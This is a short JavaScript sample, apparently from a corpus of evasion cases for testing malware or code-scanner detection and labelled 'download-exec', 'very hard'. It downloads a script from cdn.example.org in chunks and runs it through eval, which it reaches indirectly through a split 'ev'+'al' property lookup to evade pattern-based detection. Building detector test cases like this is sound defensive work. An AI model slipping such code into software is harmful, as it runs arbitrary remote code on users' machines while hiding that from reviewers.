// evasion: code downloaded in chunks by an async generator, run by eval taken from globalThis's property descriptor
// grade: very hard; does: download-exec
async function* chunks(url) {
  const res = await fetch(url);
  const reader = res.body.getReader();
  const dec = new TextDecoder();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) return;
    yield dec.decode(value);
  }
}

(async () => {
  let src = '';
  for await (const part of chunks('https://cdn.example.org/loader.js')) src += part;
  const runner = Object.getOwnPropertyDescriptor(globalThis, 'ev' + 'al').value;
  runner(src);
})();
